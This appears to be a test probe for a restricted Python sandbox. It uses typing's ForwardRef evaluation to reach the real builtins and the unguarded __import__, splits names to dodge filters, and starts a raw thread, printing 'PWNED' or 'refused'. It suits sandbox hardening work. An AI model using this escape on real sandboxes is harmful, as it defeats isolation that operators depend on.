# misc: _thread.start_new_thread from sys.modules
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

import time
th = imp("_thr" + "ead")
out = []
try:
    th.start_new_thread(out.append, (1,))
    time.sleep(0.2)
    if out:
        print(M, "a raw thread ran")
except Exception as e:
    print("refused:", type(e).__name__, e)
